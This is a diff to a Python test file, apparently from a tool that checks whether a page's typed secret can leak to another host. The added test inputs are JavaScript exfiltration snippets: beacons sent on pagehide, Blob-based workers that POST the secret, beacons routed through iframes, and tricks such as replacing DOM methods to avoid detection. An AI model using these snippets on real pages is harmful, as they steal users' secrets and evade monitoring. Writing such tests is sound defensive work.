@@ -128,9 +128,13 @@ def test_a_page_with_a_typed_secret_does_not_lead_to_another_host(
 
 SEND_LAST = "addEventListener('pagehide', () => navigator.sendBeacon(there, secret))"
 ADD_FRAME = "const frame = document.createElement('iframe'); document.body.append(frame);"
-WORK = """onmessage = event => fetch(event.data[0], {
+WORKER = """URL.createObjectURL(new Blob([`onmessage = event => fetch(event.data[0], {
     method: 'POST', mode: 'no-cors', keepalive: true, body: event.data[1],
-})"""
+})`]))"""
+WORK_LAST = """addEventListener('pagehide', () => {
+    worker.postMessage([there, secret]);
+    for (const end = Date.now() + 300; Date.now() < end;);
+});"""
 LAST_WAYS = {
     "a beacon": SEND_LAST,
     "a beacon of a hidden page": "document.addEventListener('visibilitychange',"
@@ -150,11 +154,13 @@ LAST_WAYS = {
     + SEND_LAST,
     "a beacon of a document without elements": f"document.documentElement.remove(); {SEND_LAST}",
     "a beacon after a method is replaced": f"Document.prototype.createElementNS = null; {SEND_LAST}",
-    "a worker": f"""const worker = new Worker(URL.createObjectURL(new Blob([`{WORK}`])));
-        addEventListener('pagehide', () => {{
-            worker.postMessage([there, secret]);
-            for (const end = Date.now() + 300; Date.now() < end;);
-        }});""",
+    "a beacon of a frame that is not counted": "globalThis.length = 0;"
+    + ADD_FRAME
+    + SEND_LAST.replace("navigator.sendBeacon", "frame.contentWindow.navigator.sendBeacon"),
+    "a worker": f"const worker = new Worker({WORKER}); {WORK_LAST}",
+    "a worker of a frame": f"""{ADD_FRAME}
+        const worker = new frame.contentWindow.Worker({WORKER}); {WORK_LAST}""",
+    "a worker by another name": f"const worker = new Worker.prototype.constructor({WORKER}); {WORK_LAST}",
 }
 
 
